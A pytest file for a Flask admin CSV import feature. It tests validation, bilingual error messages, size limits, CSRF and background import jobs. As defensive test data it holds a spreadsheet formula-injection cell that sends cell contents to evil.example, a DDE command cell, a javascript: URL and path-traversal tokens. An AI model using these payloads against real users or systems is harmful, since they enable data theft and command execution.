"""Spreadsheet import in the admin: the reader `tangthu import` uses, a preview, then one
all-or-nothing save; hostile files are refused with a clear message and nothing written."""

from __future__ import annotations

import csv
import html as html_text
import io
import re
import time
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner

from repository.admin.imports import MAX_UPLOAD_BYTES, MAX_UPLOAD_ROWS, QUEUE_ABOVE_ROWS
from repository.extensions import db
from repository.jobs import submit
from repository.jobs.runner import run
from repository.models import AuditEvent, Collection, Item, Job
from tests.helpers import csrf_token, sign_in

EN = {"Accept-Language": "en"}
VI = {"Accept-Language": "vi"}
HEADER = "title_vi,title_en,creator,year_start,year_end,url\n"


def _run(runner: FlaskCliRunner, *args: str) -> None:
    result = runner.invoke(args=list(args))
    assert result.exit_code == 0, result.output


@pytest.fixture
def collection(app: Flask) -> int:
    with app.app_context():
        found = Collection(slug="doi-tac", title={"vi": "Đối tác", "en": "Partners"})
        db.session.add(found)
        db.session.commit()
        return found.id


def _client(app: Flask, runner: FlaskCliRunner, role: str, name: str) -> FlaskClient:
    _run(runner, "create-user", f"--{role}", name, "--password", f"mat-khau-{name}")
    client = app.test_client()
    sign_in(client, name, f"mat-khau-{name}")
    return client


@pytest.fixture
def curator(app: Flask, runner: FlaskCliRunner) -> FlaskClient:
    return _client(app, runner, "curator", "thuthu")


def _upload(  # type: ignore[no-untyped-def]
    client: FlaskClient, body: bytes, collection: int, name: str = "records.csv", **more
):
    token = csrf_token(client.get("/admin/import").get_data(as_text=True))
    data = {
        "csrf_token": token,
        "collection": str(collection),
        "spreadsheet": (io.BytesIO(body), name),
        **more,
    }
    headers = more.pop("headers", EN)
    return client.post("/admin/import", data=data, headers=headers)


def _confirm(client: FlaskClient, preview: str) -> dict[str, str]:
    fields = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', preview))
    assert {"csrf_token", "token", "collection"} <= set(fields)
    return fields


def _text(response) -> str:  # type: ignore[no-untyped-def]
    return html_text.unescape(re.sub(r"\s+", " ", response.get_data(as_text=True)))


def _items(app: Flask) -> list[Item]:
    with app.app_context():
        items = list(db.session.execute(db.select(Item)).scalars())
        for item in items:
            db.session.expunge(item)
        return items


def test_upload_preview_confirm_imports_every_row(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    body = (
        HEADER + "Truyện Kiều,The Tale of Kieu,Nguyễn Du,1820,,https://partner.example/kieu\n"
        "Lục Vân Tiên,,Nguyễn Đình Chiểu,1851,1854,\n"
    ).encode()
    preview = _upload(curator, body, collection, publish="y")
    assert preview.status_code == 200
    page = _text(preview)
    assert "2 records are ready to import" in page and "Nguyễn Đình Chiểu" in page
    assert _items(app) == []  # nothing is saved by the preview
    fields = _confirm(curator, preview.get_data(as_text=True))
    assert fields["publish"] == "y"
    response = curator.post("/admin/import/confirm", data=fields, headers=EN)
    assert response.status_code == 302
    items = {item.title["vi"]: item for item in _items(app)}
    assert set(items) == {"Truyện Kiều", "Lục Vân Tiên"}
    assert items["Lục Vân Tiên"].year_end == 1854
    assert all(item.status == "published" for item in items.values())
    with app.app_context():
        audit = db.session.execute(db.select(AuditEvent).filter_by(action="import")).scalar_one()
        assert (audit.actor, audit.target) == ("thuthu", "doi-tac")
    # The preview is used once: sent again, it has expired.
    again = curator.post("/admin/import/confirm", data=fields, headers=EN)
    assert again.status_code == 302 and len(_items(app)) == 2


def test_bad_rows_are_all_named_and_nothing_is_imported(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    body = (
        HEADER + "Tốt,,,1800,,\n"
        ",,Không tên,,,\n"
        "Năm sai,,,một nghìn,,\n"
        "Ngược,,,1900,1800,\n"
        "Liên kết,,,,,javascript:alert(1)\n"
    ).encode()
    response = _upload(curator, body, collection)
    assert response.status_code == 422
    page = _text(response)
    assert "Nothing was imported." in page and "records.csv: 4 bad rows" in page
    for row in (
        "Row 2 (line 3): no title (title_vi and title_en are empty)",
        "Row 3 (line 4): year_start is not a year: “một nghìn”",
        "Row 4 (line 5): year_end is before year_start",
        "Row 5 (line 6): url is not an http(s) address of at most",
    ):
        assert row in page
    vi = _text(_upload(curator, body, collection, headers=VI))
    assert "không có gì được nhập" in vi.lower() and "records.csv: 4 dòng lỗi" in vi
    for row in (
        "Dòng dữ liệu 2 (dòng 3 của tệp): không có nhan đề (title_vi và title_en đều trống)",
        "Dòng dữ liệu 3 (dòng 4 của tệp): year_start không phải là một năm: “một nghìn”",
        "Dòng dữ liệu 4 (dòng 5 của tệp): year_end ở trước year_start",
        "Dòng dữ liệu 5 (dòng 6 của tệp): url không phải là địa chỉ http(s) dài tối đa",
    ):
        assert row in vi
    assert "no title" not in vi and "is not a year" not in vi
    assert _items(app) == []


def test_formula_cells_are_kept_as_text_and_exported_quoted(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["title_vi", "creator"])
    writer.writerow([formula, "@SUM(1+1)*cmd|' /C calc'!A0"])
    preview = _upload(curator, rows.getvalue().encode(), collection, publish="y")
    assert preview.status_code == 200
    assert "<script" not in preview.get_data(as_text=True).lower()
    fields = _confirm(curator, preview.get_data(as_text=True))
    assert curator.post("/admin/import/confirm", data=fields).status_code == 302
    [item] = _items(app)
    assert item.title["vi"] == formula  # kept as the text it is, never evaluated
    exported = app.test_client().get("/opendata/items.csv").get_data(as_text=True)
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["title_vi"] == "'" + formula  # a spreadsheet opening it shows text


def test_a_file_that_is_not_utf8_is_refused(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    for encoding in ("utf-16", "latin-1"):  # Excel's "Unicode text", and an old export
        body = (HEADER + "Mémoire sur la Cochinchine,,Poivre,1750,,\n").encode(encoding)
        response = _upload(curator, body, collection)
        assert response.status_code == 422, encoding
        assert "not a UTF-8 CSV file" in _text(response), encoding
    assert _items(app) == []
    # Control characters (a NUL, a bell) are taken out, as the CLI takes them out.
    preview = _upload(curator, HEADER.encode() + b"a\x00b\x07c,,,,,\n", collection)
    assert preview.status_code == 200
    fields = _confirm(curator, preview.get_data(as_text=True))
    assert curator.post("/admin/import/confirm", data=fields).status_code == 302
    assert [item.title["vi"] for item in _items(app)] == ["abc"]


def test_a_file_too_large_or_too_long_is_refused(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    huge = HEADER.encode() + b"x" * MAX_UPLOAD_BYTES
    response = _upload(curator, huge, collection)
    assert response.status_code == 413
    assert "larger than 5 MB" in _text(response)
    many = HEADER + "".join(f"Sách {n},,,,,\n" for n in range(MAX_UPLOAD_ROWS + 1))
    response = _upload(curator, many.encode(), collection)
    assert response.status_code == 413
    assert f"at most {MAX_UPLOAD_ROWS}" in _text(response)
    assert _items(app) == []
    assert not list((Path(app.instance_path) / "imports").glob("*/*"))  # nothing left staged


def test_not_a_csv_and_not_an_open_data_header(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    assert _upload(curator, b"MZ\x90\x00", collection, name="run.exe").status_code == 422
    response = _upload(curator, b"path,title\nfolder,Kieu\n", collection)
    assert response.status_code == 422 and "title_vi or title_en" in _text(response)
    assert _items(app) == []


def test_a_preview_is_only_its_uploaders(
    app: Flask, runner: FlaskCliRunner, curator: FlaskClient, collection: int
) -> None:
    preview = _upload(curator, (HEADER + "Của tôi,,,,,\n").encode(), collection)
    fields = _confirm(curator, preview.get_data(as_text=True))
    other = _client(app, runner, "curator", "thuthu2")
    token = csrf_token(other.get("/admin/import").get_data(as_text=True))
    response = other.post("/admin/import/confirm", data={**fields, "csrf_token": token})
    assert response.status_code == 302 and _items(app) == []
    forged = {**fields, "token": "../../../etc"}
    assert curator.post("/admin/import/confirm", data=forged).status_code == 302
    assert _items(app) == []


def test_readers_visitors_and_forms_without_csrf_are_refused(
    app: Flask, runner: FlaskCliRunner, curator: FlaskClient, collection: int
) -> None:
    reader = _client(app, runner, "reader", "docgia")
    assert reader.get("/admin/import").status_code == 403
    assert app.test_client().get("/admin/import").status_code == 302
    body = {"collection": str(collection), "spreadsheet": (io.BytesIO(b"title_vi\nA\n"), "a.csv")}
    assert curator.post("/admin/import", data=body).status_code == 400
    preview = _upload(curator, b"title_vi\nA\n", collection)
    fields = _confirm(curator, preview.get_data(as_text=True))
    del fields["csrf_token"]
    assert curator.post("/admin/import/confirm", data=fields).status_code == 400
    assert _items(app) == []


def _finished(app: Flask, job_id: int) -> Job:
    """The job once the embedded worker has ended it (a minute at most)."""
    deadline = time.monotonic() + 60
    while True:
        with app.app_context():
            job = db.session.get(Job, job_id)
            assert job is not None
            db.session.expunge(job)
        if job.status in ("done", "failed") or time.monotonic() > deadline:
            return job
        time.sleep(0.2)


def _rows(count: int) -> str:
    return HEADER + "".join(f"Sách {n},,Tác giả {n},{1800 + n % 100},,\n" for n in range(count))


def test_a_long_file_is_imported_by_a_job_with_its_progress(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    count = QUEUE_ABOVE_ROWS + 100
    preview = _upload(curator, _rows(count).encode(), collection, publish="y")
    assert preview.status_code == 200
    assert "imported by a task" in _text(preview)
    fields = _confirm(curator, preview.get_data(as_text=True))
    response = curator.post("/admin/import/confirm", data=fields, headers=EN)
    assert response.status_code == 302 and response.location.endswith("/admin/tasks")
    with app.app_context():
        job_id = db.session.execute(db.select(Job.id).filter_by(kind="import")).scalar_one()
    job = _finished(app, job_id)
    assert job.status == "done", job.message
    assert job.message == f"records.csv: {count} new, 0 updated, {count} published"
    assert (job.done, job.total) == (count, count)
    items = _items(app)
    assert len(items) == count and all(item.status == "published" for item in items)
    tasks = _text(curator.get("/admin/tasks", headers=EN))
    assert f"#{job_id}" in tasks or str(job_id) in tasks
    with app.app_context():
        audit = [
            (e.action, e.actor, e.target)
            for e in db.session.execute(db.select(AuditEvent).order_by(AuditEvent.id)).scalars()
        ]
    assert ("import-queued", "thuthu", "doi-tac") in audit
    assert ("import", "thuthu", "doi-tac") in audit
    # Once: the preview has expired, and the staged file is gone with the job.
    again = curator.post("/admin/import/confirm", data=fields, headers=EN)
    assert again.status_code == 302 and again.location.endswith("/admin/import")
    assert not list((Path(app.instance_path) / "imports").glob("*/*"))
    assert len(_items(app)) == count


def _stage(app: Flask, body: str) -> str:
    token = "t" * 16 + "-late-bad-row"
    folder = Path(app.instance_path) / "imports" / token
    folder.mkdir(parents=True)
    (folder / "records.csv").write_text(body, encoding="utf-8")
    return token


def test_the_import_job_is_all_or_nothing_and_runs_once(app: Flask, collection: int) -> None:
    """A bad row found late (the file changed after its preview) imports nothing; a
    finished import run again, as after a crash, imports nothing twice."""
    late = _rows(QUEUE_ABOVE_ROWS + 100) + "Cuối,,,không phải năm,,\n"
    with app.app_context():
        params = {"token": _stage(app, late), "collection": collection, "by": "thuthu"}
        job_id = submit("import", params, send=False).id
        run(job_id)
        job = db.session.get(Job, job_id)
        assert job is not None and job.status == "failed"
        assert "1 bad rows; nothing was imported" in job.message
        assert "row 601 (line 602): year_start is not a year" in job.message
    assert _items(app) == []
    assert not list((Path(app.instance_path) / "imports").glob("*/*"))  # removed with it
    with app.app_context():
        good = {"token": _stage(app, _rows(3)), "collection": collection, "by": "thuthu"}
        job_id = submit("import", good, send=False).id
        run(job_id)
        assert db.session.get(Job, job_id).status == "done"  # type: ignore[union-attr]
        # A worker that died after the commit: recover queues the job again.
        db.session.execute(db.update(Job).where(Job.id == job_id).values(status="queued"))
        db.session.commit()
        run(job_id)
        job = db.session.get(Job, job_id)
        assert job is not None and job.status == "done"
        assert job.message == "imported already, by an earlier run of this task"
    assert len(_items(app)) == 3


def test_a_job_for_a_file_that_is_gone_fails_plainly(app: Flask, collection: int) -> None:
    with app.app_context():
        for token in ("../../../etc", "x" * 20):
            job_id = submit("import", {"token": token, "collection": collection}, send=False).id
            run(job_id)
            job = db.session.get(Job, job_id)
            assert job is not None and job.status == "failed"
            assert job.message.startswith("the uploaded file is gone")
    assert _items(app) == []
